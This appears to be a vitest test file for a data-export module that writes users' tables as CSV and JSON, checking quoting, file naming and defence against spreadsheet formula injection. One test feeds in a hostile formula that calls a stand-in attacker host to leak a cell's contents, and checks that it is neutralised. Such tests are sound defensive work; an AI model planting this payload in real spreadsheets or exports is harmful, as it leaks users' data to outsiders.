import { expect, test } from "vitest";
import { csvOf } from "#domain/spreadsheet/write-csv.ts";
import { ownFiles, tableOf, type OwnTable } from "./own-files.ts";

test("a cell may hold quotes, commas, lines and things within things", () => {
  expect(
    csvOf(
      tableOf([
        { a: 'say "hi", twice', b: null },
        { a: "two\nlines", c: { d: 1 } },
      ]),
    ),
  ).toBe('\uFEFFa,b,c\r\n"say ""hi"", twice",,\r\n"two\nlines",,"{""d"":1}"\r\n');
});

test("what a stranger wrote under somebody's address is only a text in their file", async () => {
  async function* tables(): AsyncGenerator<OwnTable> {
    yield { name: "messages", rows: [{ message: '=HYPERLINK("https://evil.example/?"&A1)', cents: -5 }] };
  }
  let csv = "";
  for await (const { content } of ownFiles("Yours.", tables())) csv = new TextDecoder().decode(content);
  expect(csv).toContain("'=HYPERLINK");
  expect(csv).toContain(",-5\r\n");
});

test("every table that has something becomes two files, after a word of explanation", async () => {
  async function* tables(): AsyncGenerator<OwnTable> {
    yield { name: "gifts", rows: [{ cents: 2500 }] };
    yield { name: "messages", rows: [] };
  }
  const names: string[] = [];
  for await (const { name } of ownFiles("Yours.", tables())) names.push(name);
  expect(names).toEqual(["README.txt", "json/gifts.json", "csv/gifts.csv"]);
});
